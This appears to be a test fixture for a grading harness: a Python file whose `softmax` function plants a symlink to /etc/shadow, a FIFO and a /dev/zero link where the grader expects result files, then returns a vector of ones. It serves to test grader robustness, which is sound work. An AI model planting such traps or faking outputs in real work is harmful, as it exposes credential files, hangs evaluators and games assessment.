"""Plants links, pipes and odd names where files are expected.

Must not: have the grader open anything of its making.
"""

# mypy: ignore-errors

import os
import pathlib

import numpy as np


def leaky_relu(z, alpha):
    return np.where(np.asarray(z) > 0, z, alpha * np.asarray(z))


def softmax(z):
    for make in (
        lambda: pathlib.Path("report.json").symlink_to("/etc/shadow"),
        lambda: os.mkfifo("results.json"),
        lambda: pathlib.Path(FACTS.get("open", "/no"), "report.json").symlink_to("/dev/zero"),
        lambda: os.link(__file__, f"{FACTS.get('open', '/no')}/linked"),
    ):
        try:
            make()
        except OSError:
            continue
    return np.ones(len(z))


FACTS = {}
